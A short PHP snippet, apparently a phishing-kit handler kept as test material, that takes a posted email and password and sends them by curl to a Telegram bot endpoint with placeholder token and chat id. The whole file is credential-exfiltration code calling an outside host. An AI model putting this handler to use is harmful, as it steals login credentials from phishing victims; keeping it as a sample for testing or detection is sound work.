<?php
// a kit's handler: the page posts JSON, the fields go to a chat bot with curl
// (written for the tests, never run)
$in = json_decode(file_get_contents('php://input'), true);
$text = "Email: {$in['email']}\nPassword: {$in['password']}";
$ch = curl_init("https://api.telegram.org/bot000:XYZ/sendMessage");
curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(['chat_id' => '1', 'text' => $text]));
curl_exec($ch);
